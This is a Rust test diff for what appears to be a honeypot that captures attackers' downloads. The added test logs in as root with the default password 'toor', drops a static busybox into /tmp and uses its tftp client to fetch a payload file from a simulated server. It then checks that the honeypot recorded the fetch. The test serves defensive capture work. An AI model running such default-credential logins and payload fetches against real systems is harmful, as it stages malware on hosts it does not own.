@@ -654,3 +654,41 @@ fn cpu_seconds(pid: u32) -> f64 {
         .unwrap_or(100.0);
     ticks / hz
 }
+
+#[test]
+fn egress_fetch_busybox_tftp_get_is_captured_and_served_from_the_server() {
+    require_docker!();
+    let internet = TestInternet::start("tftp", &files());
+    let hermes = Hermes::start(egress_options(&internet, EgressMode::Fetch));
+    let server = internet.server;
+    // The attacker's static busybox, piped in; `tftp -g` from the server's address.
+    let busybox = std::fs::read("/bin/busybox").expect("busybox (busybox-static) on the host");
+    let mut command = hermes.ssh("root", &["toor"], "password");
+    command.arg(format!(
+        "cat > /tmp/busybox && chmod +x /tmp/busybox && cd /tmp && \
+         /tmp/busybox tftp -g -r bb.bin -l /tmp/t.bin {server} && echo tftp $(wc -c < /tmp/t.bin) $(sha256sum /tmp/t.bin | cut -c1-64); \
+         /tmp/busybox tftp -g -r nothere.bin -l /tmp/n.bin {server}; echo missing rc=$?"
+    ));
+    let started = Instant::now();
+    let output = crate::harness::run_with_stdin(&mut command, &busybox);
+    let out = String::from_utf8_lossy(&output.stdout).into_owned()
+        + &String::from_utf8_lossy(&output.stderr);
+    let body = served("bb.bin");
+    assert!(
+        out.contains(&format!("tftp 7000 {}", sha256_hex(&body))),
+        "{out}"
+    );
+    assert!(out.contains("missing rc=1"), "{out}");
+    eprintln!("busybox tftp: both transfers in {:?}", started.elapsed());
+    let event = assert_captured(&hermes, &format!("tftp://{server}/bb.bin"), &body);
+    assert_eq!(event["upstream"], format!("{server}:69"));
+    let missing = format!("tftp://{server}/nothere.bin");
+    let events = hermes.wait_for_events("the missing file's failure", |events| {
+        !failures_of(events, &missing).is_empty()
+    });
+    assert_eq!(failures_of(&events, &missing)[0]["reason"], "tftp_error");
+    // The test server saw each read request once, from Hermes.
+    let (requests, _) = internet.stats();
+    let tftp: Vec<&String> = requests.iter().filter(|r| r.starts_with("tftp:")).collect();
+    assert_eq!(tftp, ["tftp:bb.bin", "tftp:nothere.bin"], "{requests:?}");
+}
